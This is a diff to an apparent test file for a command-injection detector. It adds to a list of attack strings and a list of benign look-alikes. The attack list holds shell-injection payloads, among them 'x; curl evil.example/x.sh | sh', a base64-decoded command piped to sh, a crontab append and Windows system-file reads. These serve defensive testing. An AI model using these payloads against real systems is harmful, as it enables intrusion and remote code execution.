@@ -44,7 +44,7 @@ const ATTACKS: readonly string[] = [
   'cat<<<ifconfig | sh', 'echo dW5hbWUgLWE= | base64 -d | sh',
   // A leading separator and a bare command as the whole value; capitals after it; cmd.exe variables
   ';top', '; ;top', ';rmt-tar', ';CHMOD +X EVIL.PHP', '" | type %SystemDrive%\\config.ini | "', '& type %windir%\\win.ini',
-  '>/tmp/curl', '>> /etc/crontab',
+  '>/tmp/curl', '>> /etc/crontab', 'x; curl evil.example/x.sh | sh', 'a; nmap target', '& i^d', 'x`id`s',
   // Mail protocol injection after a line break
   '\r\nMAIL FROM:<a@b.com>', '\r\nRCPT TO:<postmaster@example.com>', '\r\nA001 EXAMINE INBOX',
 ];
@@ -72,7 +72,10 @@ const BENIGN: readonly string[] = [
   '$(document).ready(function () { init(); })', 'Size: 8"x11"', "That's two \"O\"s in goose", 'id', 'date', 'sort=name',
   'The `Copy` trait and `Clone`', 'See link(2) and popen(3)', 'if x == 1: return', 'if (a == b) { return }',
   ';More', 'Hello;More info', 'a; top', ';top of the list', 'WARNING; CHMOD is dangerous', 'type %windir% into the Run box',
-  'Type %SystemDrive%\\Temp in the box', '| Type | %OS% |', '> quoted text /tmp/x', '>/ home', '>>> /etc is a folder',
+  'Type %SystemDrive%\\Temp in the box', '| Type | %OS% |',
+  'It failed; curl returned an error page', 'We use Kubernetes; docker images are built nightly.',
+  'Build broke; npm registry was down for an hour', 'Returns the result of (e^x - 1), which is close to x',
+  'nodejs için:', "a space-separated list of other elements' `id`s, indicating that", '> quoted text /tmp/x', '>/ home', '>>> /etc is a folder',
   'Go to store.\nAt the store, shop.', 'Hello!\ndata not found.', 'We need the list "ASAP"', 'data:image/png;base64,iVBORw0KGgo=',
 ];
 
